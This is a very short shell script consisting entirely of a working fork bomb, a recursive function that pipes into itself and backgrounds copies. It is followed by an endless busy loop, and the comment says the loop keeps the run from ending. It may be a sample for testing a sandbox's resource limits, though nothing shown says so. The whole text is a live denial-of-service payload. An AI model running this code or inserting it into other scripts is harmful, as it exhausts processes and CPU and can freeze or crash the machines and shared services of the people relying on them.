# The shell fork bomb, then a busy loop so the run cannot end early.
b() { b | b & }
b
while :; do :; done
